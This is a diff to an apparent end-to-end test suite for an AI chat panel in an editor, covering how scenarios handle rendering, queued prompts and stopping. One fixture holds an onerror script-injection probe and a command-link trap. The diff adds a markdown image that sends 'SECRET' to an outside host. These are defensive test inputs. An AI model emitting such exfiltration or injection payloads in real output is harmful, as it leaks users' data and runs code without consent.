@@ -20,7 +20,7 @@ turns:
         var colour = "green";
         \`\`\`
 
-        <img src=x onerror="document.title='owned'"> and [a link](https://example.com/) and [a trap](command:workbench.action.terminal.new)
+        <img src=x onerror="document.title='owned'"> and [a link](https://example.com/) and [a trap](command:workbench.action.terminal.new) ![a picture](https://pictures.example/?d=SECRET)
 `,
   { workspace: notes },
   async ({ workbench }) => {
@@ -44,7 +44,7 @@ turns:
 );
 
 scenario(
-  "While a turn runs a prompt is queued, another steers, and stop ends it",
+  "What is queued while a turn runs waits through a stop and goes out behind the next prompt",
   `
 turns:
   - at: 0
@@ -65,6 +65,9 @@ turns:
     await panel.send("A queued one.");
     await panel.byId("queued").filter({ hasText: "A queued one." }).waitFor();
     await panel.byId("stop").click();
+    await panel.idle();
+    await panel.send("Something quick.");
+    await panel.said("Otherwise.");
     await panel.said("The queued one is answered.");
     await panel.idle();
     const users = (await model.requests()).at(-1)!.messages.filter(({ role }) => role === "user").map(({ content }) => JSON.stringify(content));
